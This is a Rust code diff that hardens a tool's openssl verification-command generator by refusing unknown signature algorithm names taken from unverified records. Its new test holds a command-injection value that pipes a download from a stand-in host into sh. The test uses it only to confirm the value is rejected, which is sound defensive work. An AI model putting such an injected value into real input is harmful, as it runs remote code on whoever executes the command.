@@ -3,6 +3,7 @@
 use std::path::{Path, PathBuf};
 
 use super::disk;
+use super::keys::Algorithm;
 use super::publication::{
     RECORD, RECORD_CHAIN, RECORD_KEY, RECORD_KEY_2, RECORD_PAE, RECORD_SIG, RECORD_SIG_2, RECORD_STAMP, STORE_PREFIX,
 };
@@ -24,15 +25,16 @@ pub struct Beside<'a> {
 /// fails where its check does, for a shell that stops there (`sh -e`).
 ///
 /// # Errors
-/// As [`read_record`]; [`crate::Kind::Environment`] when the working folder is gone.
+/// As [`read_record`]; [`crate::Kind::Integrity`] for an algorithm that Orb does not sign by; [`crate::Kind::Environment`]
+/// when the working folder is gone.
 pub fn openssl_commands(folder: &Path, beside: Beside<'_>) -> Result<String> {
     let (envelope, statement) = read_record(folder)?;
     let first = envelope.pae().len() - envelope.payload.len() + 1;
     let trail_hash = statement.predicate.trail_hash.as_deref().unwrap_or_default();
     let actor = &statement.predicate.actor;
-    let mut signatures = signature(&actor.algorithm, RECORD_KEY, RECORD_SIG);
+    let mut signatures = signature(algorithm(folder, &actor.algorithm)?, RECORD_KEY, RECORD_SIG);
     if let Some(other) = actor.co_signers.iter().flatten().next() {
-        signatures.push_str(&signature(&other.algorithm, RECORD_KEY_2, RECORD_SIG_2));
+        signatures.push_str(&signature(algorithm(folder, &other.algorithm)?, RECORD_KEY_2, RECORD_SIG_2));
     }
     let mut others = String::new();
     if folder.join(RECORD_CHAIN).is_file() {
@@ -99,8 +101,19 @@ fn sums(subjects: &[&Subject]) -> String {
     format!("<<'END'\n{lines}END")
 }
 
+/// The algorithm of this name. A record that nobody has verified says it, and its words become part of a command.
+fn algorithm(folder: &Path, name: &str) -> Result<Algorithm> {
+    Algorithm::ALL.into_iter().find(|a| a.name() == name).ok_or_else(|| {
+        Error::integrity(folder.join(RECORD).display().to_string())
+            .expected(format!("a signature by {}", Algorithm::ALL.map(Algorithm::name).join(", ")))
+            .found(format!("ALG_REFUSED: {name:?}"))
+            .advice("Run no command that others made of it. `orb audit verify` says more.")
+    })
+}
+
 /// The commands for one signature over the record's bytes and its key.
-fn signature(algorithm: &str, key: &str, sig: &str) -> String {
+fn signature(algorithm: Algorithm, key: &str, sig: &str) -> String {
+    let algorithm = algorithm.name();
     let verify = match algorithm.strip_prefix("RS") {
         Some(bits) => format!("openssl dgst -sha{bits} -verify {key} -signature {sig} {RECORD_PAE}"),
         None => format!("openssl pkeyutl -verify -pubin -inkey {key} -rawin -in {RECORD_PAE} -sigfile {sig}"),
@@ -140,6 +153,29 @@ mod tests {
         assert!(text.contains(&format!("{}  scene.ply", canonical::sha256_hex(&ply()))));
         fs::remove_file(out.join(RECORD)).unwrap();
         assert_eq!(openssl_commands(&out, Beside::default()).unwrap_err().kind, Kind::Incomplete);
+    }
+
+    /// No word of a record reaches a shell as it stands.
+    #[test]
+    fn forged_words_are_no_commands() {
+        let dir = tempfile::tempdir().unwrap();
+        publish(dir.path());
+        let out = dir.path().join("out");
+        let evil = "RS256 -verify x; curl evil|sh; #";
+        let (fingerprint, whole) = (shared_key().public().fingerprint(), fs::read(out.join(RECORD)).unwrap());
+        let forged = |change: &dyn Fn(&mut serde_json::Value)| {
+            forge(&out, shared_key(), |v| change(&mut v["predicate"]["actor"]));
+            let error = openssl_commands(&out, Beside::default()).unwrap_err();
+            fs::write(out.join(RECORD), &whole).unwrap();
+            error
+        };
+        for error in [
+            forged(&|actor| actor["algorithm"] = json!(evil)),
+            forged(&|actor| actor["co_signers"] = json!([{"key_fingerprint": fingerprint, "algorithm": evil}])),
+            forged(&|actor| actor["algorithm"] = json!("RS512")),
+        ] {
+            assert!(error.kind == Kind::Integrity && error.found.starts_with("ALG_REFUSED"), "{error}");
+        }
     }
 
     /// Parameters of the names around which the trail hash is found change nothing about it.
